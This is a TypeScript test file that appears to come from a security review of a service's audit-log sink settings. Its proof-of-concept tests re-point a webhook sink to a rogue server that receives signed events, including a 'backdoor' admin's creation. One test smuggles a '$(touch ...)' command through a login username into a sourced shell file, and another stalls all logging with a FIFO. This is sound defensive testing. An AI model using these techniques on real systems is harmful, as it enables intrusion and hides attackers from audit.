import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signatureOf } from '../../src/siem/transports/webhook-transport.js';
import { call, login } from '../helpers/http.js';
import { type TestTessera, testTessera } from '../helpers/test-tessera.js';
import { type Receiver, startWebhookReceiver } from '../helpers/webhook-receiver.js';

const SECRET = 'the-operators-secret-0123456789';
const PATH = '/v1/cluster/auditing/control_plane';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const eventsOf = (r: Receiver) => r.requests.flatMap((q) => JSON.parse(q.body));

describe('review', () => {
  let dir: string;
  let legit: Receiver;
  let rogue: Receiver;
  let t: TestTessera;
  let admin: string;

  beforeAll(async () => {
    dir = mkdtempSync(path.join(tmpdir(), 'review-'));
    [legit, rogue] = await Promise.all([startWebhookReceiver(path.join(dir)), startWebhookReceiver(dir)]);
    t = await testTessera({ authRateLimit: 0 });
    await t.addUser('admin', 'Admin-password-1', 'admin');
    admin = await login(t, 'admin', 'Admin-password-1');
  }, 60_000);
  afterAll(async () => {
    await t?.close();
    await Promise.all([legit?.close(), rogue?.close()]);
    rmSync(dir, { recursive: true, force: true });
  });

  it('a sink re-pointed under the same name keeps its secret and backlog; the old destination is told nothing', async () => {
    const hook = (url: string, ca: string, secret?: string) => ({
      name: 'siem',
      type: 'webhook',
      format: 'json',
      url,
      ca_cert: ca,
      ...(secret && { secret }),
    });
    expect(
      (await call(t, 'PUT', PATH, { auth: admin, body: { sinks: [hook(legit.url, legit.caPem, SECRET)] } })).status,
    ).toBe(200);
    await legit.waitFor(() => eventsOf(legit).length >= 1, 10_000);
    legit.failWith(503); // the SIEM has a hiccup; a backlog builds
    const made = await call(t, 'POST', '/v1/users', {
      auth: admin,
      body: { name: 'backdoor', password: 'Backdoor-pass-1', role: 'admin' },
    });
    expect(made.status).toBe(200);
    await sleep(500);
    // The intruder (holding an admin token) points the sink at a server of theirs, no secret given.
    const moved = await call(t, 'PUT', PATH, { auth: admin, body: { sinks: [hook(rogue.url, rogue.caPem)] } });
    expect(moved.status).toBe(200);
    legit.failWith(null);
    await rogue.waitFor(() => eventsOf(rogue).some((e: any) => e.type === 'siem_update'), 15_000);
    const got = eventsOf(rogue).map((e: any) => `${e.type}:${e.username ?? ''}`);
    console.log('rogue received:', got);
    for (const r of rogue.requests) {
      const [, t0, v1] = /^t=(\d+),v1=([0-9a-f]{64})$/.exec(String(r.headers['tessera-signature']))!;
      expect(v1).toBe(signatureOf(SECRET, Number(t0), r.body)); // signed with the operator's secret
    }
    await sleep(3000);
    const legitAfter = legit.requests.slice(1).map((r) => r.body.slice(0, 80));
    console.log(
      'legit received after the move (incl. failed tries):',
      legit.requests.length,
      eventsOf(legit).map((e: any) => e.type),
    );
    expect(eventsOf(legit).some((e: any) => e.type === 'siem_update' && e.changes)).toBe(true); // only the first PUT's own
    void legitAfter;
  }, 60_000);

  it("a file sink may be any path the server can write: a sourced shell file runs a failed login's username", async () => {
    const script = path.join(dir, 'profile.sh');
    const pwned = path.join(dir, 'pwned');
    writeFileSync(script, '# a shell file the service account sources\n');
    expect(
      (
        await call(t, 'PUT', PATH, {
          auth: admin,
          body: { sinks: [{ name: 'f', type: 'file', format: 'json', path: script }] },
        })
      ).status,
    ).toBe(200);
    await call(t, 'POST', '/v1/users/authorize', { body: { username: `$(touch ${pwned})`, password: 'x' } });
    await t.tessera.siemRecorder.flush();
    for (let i = 0; i < 40 && !readFileSync(script, 'utf8').includes('touch'); i++) await sleep(100);
    console.log(
      readFileSync(script, 'utf8')
        .split('\n')
        .find((l) => l.includes('touch')),
    );
    try {
      execFileSync('sh', ['-c', `. ${script}`], { stdio: 'ignore' });
    } catch {
      /* the JSON itself is no command */
    }
    console.log('pwned exists:', existsSync(pwned));
    // And the store itself is an accepted path.
    const db = await call(t, 'PUT', PATH, {
      auth: admin,
      body: { sinks: [{ name: 'f', type: 'file', format: 'json', path: path.join(t.dataDir, 'tessera.db') }] },
    });
    console.log('file sink at tessera.db:', db.status);
    expect(existsSync(pwned)).toBe(true);
  }, 30_000);

  it('a FIFO as a file sink stalls delivery to every sink', async () => {
    const fifo = path.join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const before = eventsOf(legit).length;
    const put = await call(t, 'PUT', PATH, {
      auth: admin,
      body: {
        sinks: [
          { name: 'a-fifo', type: 'file', format: 'json', path: fifo },
          { name: 'siem', type: 'webhook', format: 'json', url: legit.url, ca_cert: legit.caPem, secret: SECRET },
        ],
      },
    });
    expect(put.status).toBe(200);
    for (let i = 0; i < 5; i++)
      await call(t, 'POST', '/v1/users/authorize', { body: { username: 'nobody', password: 'x' } });
    await sleep(6000);
    const got = await call(t, 'GET', PATH, { auth: admin });
    console.log(
      'after 6 s: legit got',
      eventsOf(legit).length - before,
      'new events; status',
      JSON.stringify(got.body.sinks.map((s: any) => [s.name, s.status.backlog, s.status.state])),
    );
    // unblock the open() so the test can close
    try {
      execFileSync('sh', ['-c', `timeout 2 cat ${fifo} > /dev/null; true`]);
    } catch {}
    await call(t, 'DELETE', PATH, { auth: admin });
  }, 30_000);
});
